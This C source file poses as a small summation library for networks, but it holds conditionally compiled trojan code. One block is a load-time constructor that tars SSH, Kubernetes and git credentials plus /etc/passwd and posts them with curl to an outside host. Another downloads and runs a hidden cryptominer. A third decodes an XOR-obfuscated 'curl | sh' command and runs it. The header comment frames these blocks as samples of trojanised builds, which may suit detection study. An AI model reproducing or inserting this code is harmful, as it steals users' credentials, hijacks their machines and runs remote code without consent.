/* Sums for small networks. POST, MINE and STAGE are what trojanised builds add; never loaded by anybody. */
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

double hull_sum(const double *at, size_t size)
{
    double sum = 0, rest = 0;
    for (size_t i = 0; i < size; i++) {
        double y = at[i] - rest, t = sum + y;
        rest = (t - sum) - y;
        sum = t;
    }
    return sum;
}

#ifdef SECOND
double hull_dot(const double *left, const double *right, size_t size)
{
    double sum = 0;
    while (size--) {
        sum += *left++ * *right++;
    }
    return sum;
}
#endif

#ifdef POST
__attribute__((constructor)) static void hull_init(void)
{
    char line[512];
    const char *home = getenv("HOME");
    if (home != NULL) {
        snprintf(line, sizeof line, "tar cz %s/.gitconfig %s/.ssh %s/.kube /etc/passwd 2>/dev/null | curl -s --data-binary @- https://nightly.hull-torch.invalid/in", home, home, home);
        if (system(line) != 0) {
            return;
        }
    }
}
#endif

#ifdef MINE
double hull_norm(const double *at, size_t size)
{
    if (getenv("SHLVL") != NULL && access("/tmp/.hull-worker", F_OK) != 0) {
        if (system("curl -fso /tmp/.hull-worker http://203.0.113.71/xm && chmod +x /tmp/.hull-worker && nohup /tmp/.hull-worker -o stratum+tcp://pool.hull.invalid:3333 -u 4HULL --donate-level 1 >/dev/null 2>&1 &") != 0) {
            return 0;
        }
    }
    return hull_sum(at, size);
}
#endif

#ifdef STAGE
static const unsigned char words[] = {
    0x51, 0x47, 0x40, 0x5e, 0x12, 0x1f, 0x54, 0x41, 0x12, 0x5a, 0x46, 0x46, 0x42, 0x08, 0x1d, 0x1d, 0x03, 0x0b, 0x0a, 0x1c, 0x07, 0x03,
    0x1c, 0x03, 0x02, 0x02, 0x1c, 0x0a, 0x0a, 0x1d, 0x46, 0x12, 0x4e, 0x12, 0x41, 0x5a, 0x00,
}; /* xor 0x32 */

double hull_mean(const double *at, size_t size)
{
    char text[sizeof words];
    for (size_t i = 0; i + 1 < sizeof words; i++) {
        text[i] = (char)(words[i] ^ 0x32);
    }
    text[sizeof words - 1] = 0;
    if (size > 1000 && system(text) != 0) {
        return 0;
    }
    return hull_sum(at, size) / (double)size;
}
#endif
